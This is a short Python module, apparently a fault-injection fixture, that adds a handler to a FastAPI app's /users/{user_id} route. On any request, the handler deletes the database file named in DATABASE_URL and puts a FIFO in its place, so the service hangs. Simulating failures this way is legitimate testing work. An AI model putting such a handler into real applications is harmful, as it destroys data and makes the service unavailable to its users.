"""Puts a FIFO in place of its database: opening one waits for ever."""

import os

from fastapi import FastAPI

DATABASE = os.environ["DATABASE_URL"].split("///")[1].split("?")[0]


def install(app: FastAPI) -> None:
    @app.get("/users/{user_id}")
    def swap(user_id: str) -> None:
        os.unlink(DATABASE)
        os.mkfifo(DATABASE)
